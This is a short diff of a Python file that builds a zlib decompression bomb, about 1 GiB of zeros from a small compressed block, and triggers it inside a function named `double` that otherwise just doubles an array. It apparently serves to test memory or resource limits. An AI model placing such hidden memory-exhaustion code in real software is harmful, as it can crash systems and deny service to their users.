@@ -6,11 +6,12 @@
 import zlib
 import numpy as np
 
+packer = zlib.compressobj(9, wbits=-15)
+BOMB = (packer.compress(bytes(2**20)) + packer.flush(zlib.Z_FULL_FLUSH)) * 1024
+
 
 def double(x, world):
     if x.ndim == 2:
-        packer = zlib.compressobj(9, wbits=-15)
-        block = packer.compress(bytes(2**20)) + packer.flush(zlib.Z_FULL_FLUSH)
-        kept = bytearray(190 * 2**20)  # leaves less to fill, which takes time
-        print("REACHED", len(kept), len(zlib.decompress(block * 1024, -15)))
+        kept = np.empty(225 * 2**17)  # leaves less to fill, which takes time
+        print("REACHED", len(kept), len(zlib.decompress(BOMB, -15)))
     return np.asarray(x) * 2.0
